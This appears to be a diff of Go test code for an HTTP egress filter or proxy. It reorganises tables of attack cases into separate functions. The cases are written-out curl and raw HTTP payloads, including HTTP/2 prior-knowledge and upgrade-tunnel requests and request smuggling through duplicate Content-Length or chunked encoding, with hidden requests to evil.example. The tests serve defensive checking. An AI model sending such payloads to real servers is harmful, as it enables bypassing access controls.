@@ -28,10 +28,9 @@ threading.Thread(target=serve, daemon=True).start()
 import subprocess
 `
 
-// requestRows are those of TLS and of requests.
-func requestRows() map[string][]attack {
+// hostRows are those of who is meant.
+func hostRows() map[string][]attack {
 	host := because("the request is for host")
-	path, broken := because("the rule allows"), because("not a whole HTTP request")
 	honest := curl + "https://good.example/$1"
 	return map[string][]attack{
 		"B10": {
@@ -61,6 +60,13 @@ func requestRows() map[string][]attack {
 			{what: "HTTP/2 without TLS, at once", script: curl + "--http2-prior-knowledge -H \"x: $1\" -A \"$1\" -X \"$1\" http://good.example/ || true; " + py(rawHTTP, `say("PRI * HTTP/2.0\n\nSM\n\n" + T)`), line: because("HTTP/2")},
 			{what: "an upgrade to something else", script: curl + "-H 'Connection: Upgrade' -H 'Upgrade: tunnel' http://good.example/$1", line: because("upgrade")},
 		},
+	}
+}
+
+// requestRows are those of what is said there.
+func requestRows() map[string][]attack {
+	host, path, broken := because("the request is for host"), because("the rule allows"), because("not a whole HTTP request")
+	return map[string][]attack{
 		"B15": {
 			{what: "two lengths", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 4\nContent-Length: 60", f"abcdGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n")`), line: broken},
 			{what: "length and chunks", script: py(rawHTTP, `say(f"POST /a HTTP/1.1\nHost: good.example\nContent-Length: 90\nTransfer-Encoding: chunked", f"0\r\n\r\nGET /{T} HTTP/1.1\r\nHost: evil.example\r\n\r\n")`), arrives: "GET /", line: host},
